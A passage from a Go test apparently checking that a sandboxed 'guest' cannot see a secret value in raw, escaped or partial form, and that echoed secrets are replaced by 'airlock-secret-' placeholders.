		for _, form := range []string{value, url.QueryEscape(value), url.PathEscape(value), value[:12], value[len(value)-12:]} {
			if bytes.Contains(v, []byte(form)) {
				t.Fatalf("the guest can read the value (%q) from:\n%s", form, got)
			}
		}
	}
	if !strings.Contains(string(got), "airlock-secret-") {
		t.Errorf("the echoes did not come back as placeholders:\n%s", got)
	}
}
